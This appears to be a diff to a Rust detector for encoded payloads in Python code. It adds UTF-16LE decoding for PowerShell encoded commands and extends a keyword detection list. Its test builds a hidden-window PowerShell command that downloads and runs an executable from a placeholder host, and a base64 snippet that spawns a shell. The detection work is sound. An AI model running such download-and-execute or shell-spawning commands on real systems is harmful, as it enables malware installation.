@@ -288,8 +288,33 @@ fn inflate(b: &[u8]) -> Option<Vec<u8>> {
 
 fn printable_text(mut bytes: Vec<u8>) -> Option<String> {
     bytes.truncate(MAX_DECODED_ONE);
+    if let Some(text) = utf16le_text(&bytes) {
+        return is_printable(&text).then_some(text);
+    }
     let text = String::from_utf8(bytes).ok()?;
     is_printable(&text).then_some(text)
+}
+
+/// UTF-16LE text (PowerShell `-EncodedCommand` payloads): an even length
+/// with almost every odd byte zero.
+fn utf16le_text(bytes: &[u8]) -> Option<String> {
+    if bytes.len() < 16 || !bytes.len().is_multiple_of(2) {
+        return None;
+    }
+    let zeros = bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count();
+    if zeros * 10 < bytes.len() / 2 * 9 {
+        return None;
+    }
+    let units: Vec<u16> = bytes
+        .chunks_exact(2)
+        .map(|c| {
+            u16::from_le_bytes([
+                c.first().copied().unwrap_or(0),
+                c.get(1).copied().unwrap_or(0),
+            ])
+        })
+        .collect();
+    Some(String::from_utf16_lossy(&units))
 }
 
 /// Mostly printable text (not random bytes), at least 8 characters.
@@ -331,6 +356,8 @@ pub fn looks_like_code(text: &str) -> bool {
         "child_process",
         "__import__",
         "powershell",
+        "Invoke-WebRequest",
+        "Start-Process",
         "curl ",
         "wget ",
         "/bin/sh",
@@ -388,6 +415,26 @@ mod tests {
         let v =
             lex_python("h = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'\n");
         assert!(candidates(&v, &mut Budget::default()).is_empty());
+    }
+
+    #[test]
+    fn decodes_powershell_encoded_command_as_utf16le() {
+        // UTF-16LE of "Invoke-WebRequest -Uri http://x.example/a.exe -OutFile a.exe; Start-Process a.exe"
+        let payload =
+            "Invoke-WebRequest -Uri http://x.example/a.exe -OutFile a.exe; Start-Process a.exe";
+        let units: Vec<u8> = payload.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        let b64 = base64::engine::general_purpose::STANDARD.encode(units);
+        let v = lex_python(&format!(
+            "subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {b64}')\n"
+        ));
+        let d = candidates(&v, &mut Budget::default());
+        assert_eq!(d.len(), 1, "{d:?}");
+        assert_eq!(d[0].text, payload);
+        // Plain UTF-8 base64 still decodes as UTF-8.
+        let v =
+            lex_python("a = 'aW1wb3J0IG9zLCBzdWJwcm9jZXNzCnN1YnByb2Nlc3MuUG9wZW4oWyJzaCJdKQo='\n");
+        let d = candidates(&v, &mut Budget::default());
+        assert!(d[0].text.starts_with("import os"));
     }
 
     #[test]
